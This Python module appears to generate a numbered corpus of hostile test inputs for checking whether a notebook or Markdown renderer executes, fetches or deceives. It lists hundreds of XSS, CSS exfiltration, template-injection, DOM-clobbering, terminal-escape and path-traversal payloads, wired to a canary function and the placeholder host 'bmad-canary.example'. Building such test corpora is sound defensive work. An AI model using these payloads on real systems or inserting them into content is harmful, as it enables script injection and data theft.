"""Texts that would run, fetch, open or deceive, were they taken for more than text.

Each has a number, and says it when it fires: it calls `bmadHit(NUMBER)`, or asks for an address or
a file whose name ends in the number. `TABLE` holds whole texts by kind, `WAYS_OUT` what closes the
place that a text may stand in, and `RIDERS` what comes after it, each with a pair of its own for the
inside of a tag; `payloads` is all of them.

In a template `%J` is the call, `%U` an address on another machine, `%F` one on the same server,
`%P` a file's path, and `%B` a script as a base64 data URL.
"""

from __future__ import annotations

import base64
import functools
from typing import NamedTuple

HOST = "bmad-canary.example"
FILE = "canary-file"


class Payload(NamedTuple):
    """One hostile text."""

    number: int
    kind: str
    text: str


TABLE: dict[str, list[str]] = {
    "script": [
        "<script>%J</script>", "<SCRIPT>%J</SCRIPT>", "<script type=module>%J</script>",
        "<script async>%J</script>", "<script src=%U></script>", "<script src='%B'></script>",
        "<script src=%F></script>", "<script/x>%J</script>", "<script\n>%J</script\n>",
        "<script\t>%J</script>", "<script\x0c>%J</script>", "<<script>%J</script>",
        "<scr<script>ipt>%J</scr</script>ipt>", "<script>/*<!--*/%J/*-->*/</script>",
        "<script type=text/javascript defer>%J;</script>", "<script>window['bmad'+'Hit'](%N)</script>",
        "<script type=importmap>{\"imports\":{\"x\":\"%U\"}}</script><script type=module>import 'x'</script>",
        "<script>setTimeout('%J',1)</script>", "<script>new Function('%J')()</script>",
        "<script>fetch('%U')</script>", "<script>navigator.sendBeacon('%U')</script>",
        "<script>new Image().src='%U'</script>", "<script>alert(%N);%J</script>",
        "<script>import('%U')</script>", "<script>new WebSocket('ws:%V')</script>",
        "<script>eval(atob('%S'))</script>", "<template><script>%J</script></template><script>%J</script>",
    ],
    "handler": [
        "<img src=x onerror=%J>", "<img src=x onerror='%J'>", "<IMG SRC=x ONERROR=%J>",
        "<img/src/onerror=%J>", "<img src onerror=%J//>", "<img src=x:x onerror\n=\n%J>",
        "<image src=x onerror=%J>", "<body onload=%J>", "<body onpageshow=%J>",
        "<video src=x onerror=%J></video>", "<video><source onerror=%J></video>",
        "<audio src=x onerror=%J></audio>", "<input autofocus onfocus=%J>",
        "<select autofocus onfocus=%J></select>", "<textarea autofocus onfocus=%J></textarea>",
        "<button autofocus onfocus=%J>x</button>", "<details open ontoggle=%J><summary>x</summary></details>",
        "<details ontoggle=%J open>x</details>", "<b onmouseover=%J>x</b>", "<b onclick=%J>x</b>",
        "<b onpointerenter=%J>x</b>", "<b onpointerdown=%J>x</b>", "<b onmousemove=%J>x</b>",
        "<b contenteditable onfocus=%J tabindex=0>x</b>", "<b oncontextmenu=%J>x</b>",
        "<b onwheel=%J>x</b>", "<b onkeydown=%J tabindex=0>x</b>", "<b oncopy=%J>x</b>",
        "<p style='animation:a 1s' onanimationstart=%J>x</p><style>@keyframes a{to{top:0}}</style>",
        "<p style='transition:top 1s' ontransitionend=%J>x</p>", "<iframe onload=%J></iframe>",
        "<iframe src=about:blank onload=%J></iframe>", "<object data=x onerror=%J></object>",
        "<embed src=about:blank onload=%J>", "<link rel=stylesheet href=x onerror=%J>",
        "<style onload=%J></style>", "<script src=x onerror=%J></script>",
        "<form oninput=%J><input></form>", "<form onsubmit=%J><button>x</button></form>",
        "<dialog open onclose=%J>x</dialog>", "<b popover id=p%N onbeforetoggle=%J>x</b><button popovertarget=p%N>x</button>",
        "<marquee onstart=%J>x</marquee>", "<x onclick=%J>x</x>", "<bmad-x onfocus=%J tabindex=1>x</bmad-x>",
    ],
    "svg": [
        "<svg onload=%J>", "<svg/onload=%J>", "<svg><script>%J</script></svg>",
        "<svg><script href='%B'/></svg>", "<svg><script xlink:href='%U'></script></svg>",
        "<svg><a xlink:href='javascript:%J'><text y=9>x</text></a></svg>",
        "<svg><a href='javascript:%J'><rect width=9 height=9 /></a></svg>",
        "<svg><animate onbegin=%J attributeName=x dur=1s>", "<svg><set onbegin=%J attributeName=x to=1>",
        "<svg><animateTransform onbegin=%J attributeName=transform>",
        "<svg><image href='%U'/></svg>", "<svg><image href=x onerror=%J></svg>",
        "<svg><use href='%F#x'/></svg>", "<svg><foreignObject><img src=x onerror=%J></foreignObject></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.%J</script>'></iframe></foreignObject></svg>",
        "<svg><style>@import '%U';</style></svg>", "<svg><desc><img src=x onerror=%J></desc></svg>",
        "<svg><title><img src=x onerror=%J></title></svg>", "<svg><p><style><img src=x onerror=%J></style></svg>",
        "<svg><a><animate attributeName=href values='javascript:%J'/><text y=9>x</text></a></svg>",
        "<svg><feImage href='%U'/></svg>", "<svg><rect fill='url(%U#a)' width=9 height=9 /></svg>",
        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='%J'/>",
        "<math><mtext><table><mglyph><style><img src=x onerror=%J>",
        "<math href='javascript:%J'>x</math>", "<math><mi xlink:href='javascript:%J'>x</mi></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=%J></annotation-xml></math>",
    ],
    "markdown": [
        "![x](%U)", "![x](%F)", "[x](javascript:%J)", "[x](%U)", "[x]: javascript:%J\n\n[x]", "<javascript:%J>",
        '![x](x"onerror="%J)', "[x](data:text/html;base64,%S)", "# x\n\n<img src=x onerror=%J>",
        "```html\n<img src=x onerror=%J>\n```\n<img src=x onerror=%J>", "| a |\n|---|\n| <img src=x onerror=%J> |",
        "[x](vbscript:%J)", "![](<%U>)", "> <script>%J</script>", "* <svg onload=%J>", "[![x](%U)](javascript:%J)",
        "<details open ontoggle=%J>\n\nx\n\n</details>", "[x](  java\nscript:%J)", "![x][y]\n\n[y]: %U",
        "</code></pre><img src=x onerror=%J>", "$$</p><img src=x onerror=%J>$$", "&lt;img src=x onerror=%J&gt;",
    ],
    "url": [
        "<a href='javascript:%J'>x</a>", "<a href='JaVaScRiPt:%J'>x</a>", "<a href=' javascript:%J'>x</a>",
        "<a href='java\tscript:%J'>x</a>", "<a href='java\nscript:%J'>x</a>", "<a href='&#106;avascript:%J'>x</a>",
        "<a href='javascript&colon;%J'>x</a>", "<a href='\x01javascript:%J'>x</a>",
        "<a href='javascript://%0a%J'>x</a>", "<a href='%B' target=_self>x</a>", "<a ping='%U' href='#'>x</a>",
        "<a href='x' target='_top' onclick=%J>x</a>", "<area href='javascript:%J'>",
        "<form action='javascript:%J'><button>x</button></form>",
        "<form><button formaction='javascript:%J'>x</button></form>",
        "<form action='%U'><input type=image src='%U'></form>", "<iframe src='javascript:parent.%J'></iframe>",
        "<iframe src='%U'></iframe>", "<iframe src='%F'></iframe>", "<embed src='%U'>", "<object data='%U'></object>",
        "<img src='%U'>", "<img srcset='%U 1x'>", "<img src='%F'>", "<img src=%V>", "<picture><source srcset='%U'><img></picture>",
        "<video poster='%U'></video>", "<video src='%U'></video>", "<audio src='%U' autoplay></audio>",
        "<track src='%U'>", "<input type=image src='%U'>", "<body background='%U'>", "<table background='%U'><td>x</table>",
        "<link rel=stylesheet href='%U'>", "<link rel=prefetch href='%U'>", "<link rel=preload as=image href='%U'>",
        "<link rel=icon href='%U'>", "<link rel=preconnect href='%U'>",
        "<meta http-equiv=refresh content='9999;url=%U'>", "<base href='%U/'><img src=a>",
        "<portal src='%U'></portal>", "<frameset><frame src='%U'></frameset>", "<html manifest='%U'>",
    ],
    "data": [
        "<iframe src='%B'></iframe>", "<iframe src='data:text/html,<script>parent.%J</script><img src=%U>'></iframe>",
        "<object data='%B'></object>", "<embed src='%B'>", "<a href='%B'>x</a>",
        "<iframe src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"%U\"/></svg>'></iframe>",
        "<script src='data:text/javascript,%J'></script>", "<script type=module src='data:text/javascript,%J'></script>",
        "<link rel=stylesheet href='data:text/css,@import \"%U\";'>", "data:text/html,<script>%J</script>",
    ],
    "srcdoc": [
        "<iframe srcdoc='<script>parent.%J</script>'></iframe>", "<iframe srcdoc='<img src=x onerror=parent.%J>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.%J&lt;/script&gt;'></iframe>", "<iframe srcdoc='<svg onload=parent.%J>'></iframe>",
        "<iframe srcdoc='<script src=%U></script>'></iframe>", "<iframe srcdoc='<link rel=stylesheet href=%U>'></iframe>",
        "<iframe sandbox=allow-scripts srcdoc='<img src=%U>'></iframe>", "<iframe srcdoc='<iframe srcdoc=\"<img src=%U>\"></iframe>'></iframe>",
        "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url=%U\">'></iframe>", "<iframe srcdoc='<base href=%U/><img src=a>'></iframe>",
    ],
    "css": [
        "<style>*{background:url(%U)}</style>", "<style>@import '%U';</style>", "<style>@import url(%U);</style>",
        "<style>body::after{content:url(%U)}</style>", "<style>@font-face{font-family:b%N;src:url(%U)}*{font-family:b%N}</style>",
        "<div style='background:url(%U)'>x</div>", "<div style='background-image:url(\"%U\")'>x</div>",
        "<div style='list-style:url(%U);display:list-item'>x</div>", "<div style='border-image:url(%U) 1'>x</div>",
        "<div style='content:url(%U)'>x</div>", "<div style='cursor:url(%U),auto'>x</div>",
        "<div style='mask-image:url(%U)'>x</div>", "<div style='shape-outside:url(%U);float:left'>x</div>",
        "<div style='background:image-set(\"%U\" 1x)'>x</div>", "<div style='--a:url(%U);background:var(--a)'>x</div>",
        "<div style='filter:url(%U#a)'>x</div>", "<style>:root{--jp-layout-color0:url(%U)}</style>",
        "<style>.jp-Notebook{display:none}</style>", "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
        "<div style='width:expression(%J)'>x</div>", "<div style='behavior:url(%U)'>x</div>", "<div style='-moz-binding:url(%U)'>x</div>",
        '";background:url(%U);"', "';background:url(%U);'", ";background:url(%U)", "red;background:url(%U)",
        "}*{background:url(%U)}", "*/}*{background:url(%U)}/*", "\\75rl(%U)", "u\\rl(%U)",
    ],
    "template": [
        "{{ %J }}", "{{%J}}", "{{constructor.constructor('%J')()}}", "{% import os %}{{ os }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ open('%P').read() }}", "{{ cycler.__init__.__globals__ }}",
        "${%J}", "${{%J}}", "#{%J}", "<%= %J %>", "<% %J %>", "<?php %J; ?>", "[[%J]]", "@{%J}", "%{%J}", "{%J}", "{0.__class__}",
        "%(x)s", "%n%n%s", "$(touch %P)", "`touch %P`", "!touch %P", "%%bash\ntouch %P", "%run %P", "%load %P", "?%P", "<!--#include file=%P-->",
        "<!--#exec cmd='touch %P'-->", "{{ '%J' | safe }}", "{{= %J }}", "<x-t>{{%J}}</x-t>", "f'{%J}'", "__import__('os').system('touch %P')",
    ],
    "clobber": [
        "<a id=jupyterapp></a>", "<img name=jupyterapp>", "<form name=jupyterapp><input name=shell></form>", "<form id=x><input name=attributes></form>",
        "<a id=Plotly href='%U'></a>", "<img name=getElementById>", "<img name=body>", "<form name=document><input name=cookie></form>",
        "<input name=ownerDocument>", "<a id=require></a><a id=require name=config href='%U'></a>", "<img id=MathJax>", "<iframe name=bmadHit></iframe>",
        "<a id=bmadHit href='%U'>x</a>", "<object id=define></object>", "<script id=jupyter-config-data type=application/json>{}</script>",
        "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "<a id=__proto__>", "<form id=children><input name=length></form>",
    ],
    "mathjax": [
        "$\\href{javascript:%J}{x}$", "$$\\href{%U}{x}$$", "\\(\\href{javascript:%J}{x}\\)", "\\[\\href{%U}{x}\\]",
        "$\\style{background:url(%U)}{x}$", "$\\class{jp-Notebook}{x}$", "$\\cssId{jupyterapp}{x}$", "$\\unicode{x3c}$",
        "$\\require{html}\\href{javascript:%J}{x}$", "$\\includegraphics{%U}$", "$\\text{<img src=x onerror=%J>}$", "$x$<img src=x onerror=%J>$y$",
        "\\begin{equation}\\href{javascript:%J}{x}\\end{equation}", "$\\def\\x{\\x\\x}\\x$", "$\\html{<img src=x onerror=%J>}$", "$5 or $6 $\\data{a=b}{x}$",
    ],
    "terminal": [
        "\x1b]8;;%U\x1b\\x\x1b]8;;\x1b\\", "\x1b]8;;%U\x07x\x1b]8;;\x07", "\x1b]52;c;%S\x07", "\x1b]0;%J\x07", "\x1b]2;x\x1b\\",
        "\x1b]1337;File=inline=1:%S\x07", "\x1b]50;x\x07", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Kx", "\x1b[31mx", "\x1b[8mx\x1b[0m", "\x1b[6n", "\x1b[c",
        "\x1b[?1049h", "\x1b[?25l", "\x1bc", "\x1b#8", "\x1bP$qm\x1b\\", "\x1bPq#0\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bX x\x1b\\",
        "\x9b31mx", "\x9d0;x\x9c", "\x90x\x9c", "\x9e\x9c", "\x84\x85", "x\x08\x08y", "safe\rrm", "x\x07\x07", "x\x0b\x0cx", "\x7f\x7f", "\x0e\x0f",
        "\x1b[38;5;196mx", "\x1b[9999;9999H", "\x1b[200~x\x1b[201~", "\x1b[>4;2m", "\x1b]4;1;?\x07", "\x1b]10;?\x07", "\x1b[5i", "\x1b]9;x\x07",
        "\x1b", "x\x1b[", "x\x1b]", "\x1b[\x1b[31m", "\x1b]8;;%U\nx", "\u202ex\u202c", "\u2066x\u2069", "\u200fx", "\ud83dx", "\ufeffx", "\u2028x\u2029y",
    ],
    "path": [
        "%P", "./%P", "../%P", "file://%P", "~/%P", "{{ %P }}", "@%P", "<%P", "file:///etc/passwd?%P", "\\\\%H\\share\\%N", "%V", "%U", "%U.png",
        "see %U", "%F", "C:\\%P", "%P:1:1", "[%P]", "nb:%P.ipynb", "%P.png", "%P.svg", "%P.html", "jar:%U!/", "ftp:%V", "ws:%V", "mailto:x@%H",
    ],
}  # fmt: skip
WAYS_OUT = [
    '">', "'>", "\">'>", "-->", "]]>", "</style>", "</script>", "</title>", "</textarea>", "</text></svg>", "</pre></code>",
    "</td></tr></table>", "</summary></details>", "</span></div></section>", "</math>", "</noscript>", "</template>", "</iframe>", "</select>",
    "&quot;>", "&#34;>", '\x00">', '\\">', "%22%3E", '\u2028">', "\r\n\r\n", "`>", "\ufeff", "--!>", "</p></li></ul>",
]  # fmt: skip
RIDERS = [
    "<img src=x onerror=%J>", "<script>%J</script>", "<svg onload=%J>", "<img src='%U'>", "<iframe srcdoc='<script>parent.%J</script>'></iframe>",
]  # fmt: skip
WAYS_INTO_A_TAG = ['" ', "' ", "x ", '"\t', "'\n", '"/', "'/", '"\x0c', '&quot; " ', '\\" ']
TAG_RIDERS = [
    "onmouseover=%J x=",
    "autofocus onfocus=%J tabindex=0 x=",
    "style=background:url(%U) x=",
    "onclick=%J ",
]


def _filled(template: str, number: int) -> str:
    call = f"bmadHit({number})"
    script = base64.b64encode(call.encode()).decode()
    page = base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()
    kind = "text/javascript" if "<script" in template or "<svg><script" in template else "text/html"
    values = {
        "%J": call, "%N": str(number), "%U": f"http://{HOST}/{number}", "%V": f"//{HOST}/{number}",
        "%H": HOST, "%F": f"/files/{FILE}-{number}", "%P": f"{FILE}-{number}", "%S": script,
        "%B": f"data:{kind};base64,{script if kind == 'text/javascript' else page}",
    }  # fmt: skip
    for hole, value in values.items():
        template = template.replace(hole, value)
    return template


@functools.cache
def payloads() -> tuple[Payload, ...]:
    """Return all texts, numbered from 1."""
    told = [(kind, each) for kind, texts in TABLE.items() for each in texts]
    told += [("breakout", way + rider) for way in WAYS_OUT for rider in RIDERS]
    told += [("breakout", way + rider) for way in WAYS_INTO_A_TAG for rider in TAG_RIDERS]
    return tuple(
        Payload(number, kind, _filled(template, number))
        for number, (kind, template) in enumerate(told, 1)
    )
